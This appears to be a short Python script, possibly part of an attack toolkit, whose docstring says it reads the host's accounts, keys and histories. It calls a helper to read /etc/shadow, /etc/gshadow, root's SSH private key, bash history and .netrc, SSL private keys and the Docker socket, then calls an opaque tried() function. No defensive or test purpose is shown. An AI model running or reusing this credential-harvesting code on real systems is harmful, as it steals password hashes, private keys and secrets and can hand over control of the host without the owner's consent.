"""Reads accounts, keys and histories of the host."""

from tools import adivina, read_all, trabaja, tried

read_all("/etc/shadow", "/etc/gshadow", "/root/.ssh/id_rsa", "/root/.bash_history", "/root/.netrc", "/etc/ssl/private", "/var/run/docker.sock")
tried()
